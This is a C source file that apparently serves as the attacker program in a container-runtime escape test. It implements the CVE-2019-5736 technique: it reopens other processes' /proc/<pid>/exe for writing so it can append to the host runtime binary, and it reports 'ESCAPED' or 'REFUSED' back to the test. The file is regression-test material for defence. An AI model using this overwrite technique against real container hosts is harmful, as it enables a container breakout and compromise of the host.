/* The attacker of runtime-escape.sh, run as a container's init (built
 * static, so it needs nothing of the root file system): the CVE-2019-5736
 * class. It keeps an O_PATH descriptor on the /proc/<pid>/exe of every
 * other process it sees, and keeps trying to reopen each one for writing
 * through /proc/self/fd/N: while the host binary runs the kernel answers
 * ETXTBSY, and once no copy of it runs the reopen would succeed. On
 * success it appends a line to the file and reports "ESCAPED <target>" on
 * stdout; a reopen refused for another reason than ETXTBSY is reported once
 * per target as "REFUSED <target>: <error>", so the test knows the
 * attacker saw the process. It runs for argv[1] seconds (default 30). */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <stdbool.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAXFD 512

static int held[MAXFD];
static int nheld;
static char told[8][256]; /* targets reported as refused */
static int ntold;

static bool tell(const char *target)
{
	for (int i = 0; i < ntold; i++)
		if (!strcmp(told[i], target))
			return false;
	if (ntold < 8)
		snprintf(told[ntold++], sizeof(told[0]), "%s", target);
	return true;
}

/* an O_PATH fd on each new exe target (device + inode not held yet) */
static void collect(void)
{
	char path[64], self[64];
	DIR *d = opendir("/proc");
	struct dirent *e;

	if (!d)
		return;
	snprintf(self, sizeof(self), "%d", getpid());
	while ((e = readdir(d)) && nheld < MAXFD) {
		int fd;

		if (e->d_name[0] < '0' || e->d_name[0] > '9' || !strcmp(e->d_name, self))
			continue;
		snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
		if ((fd = open(path, O_PATH | O_CLOEXEC)) < 0)
			continue;
		held[nheld++] = fd;
	}
	closedir(d);
}

static int try_write(void)
{
	char path[64], target[512];

	for (int i = 0; i < nheld; i++) {
		ssize_t n;
		int w;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
		if ((w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC)) < 0) {
			int e = errno;

			if (e != ETXTBSY) {
				n = readlink(path, target, sizeof(target) - 1);
				target[n > 0 ? n : 0] = '\0';
				if (tell(target)) {
					printf("REFUSED %s: %s\n", target, strerror(e));
					fflush(stdout);
				}
			}
			continue;
		}
		/* opened for writing: the host file, unless the write is refused */
		if (write(w, "\nberth-escape-test\n", 19) == 19) {
			n = readlink(path, target, sizeof(target) - 1);
			target[n > 0 ? n : 0] = '\0';
			printf("ESCAPED %s\n", target);
			fflush(stdout);
			close(w);
			return 1;
		}
		close(w);
	}
	return 0;
}

int main(int argc, char **argv)
{
	time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 30);

	printf("escape-init: watching\n");
	fflush(stdout);
	while (time(NULL) < end) {
		collect();
		if (try_write())
			return 0;
		/* fds of processes long gone are dropped to stay below MAXFD */
		if (nheld >= MAXFD - 64) {
			for (int i = 0; i < nheld; i++)
				close(held[i]);
			nheld = 0;
		}
	}
	printf("escape-init: nothing written\n");
	return 0;
}
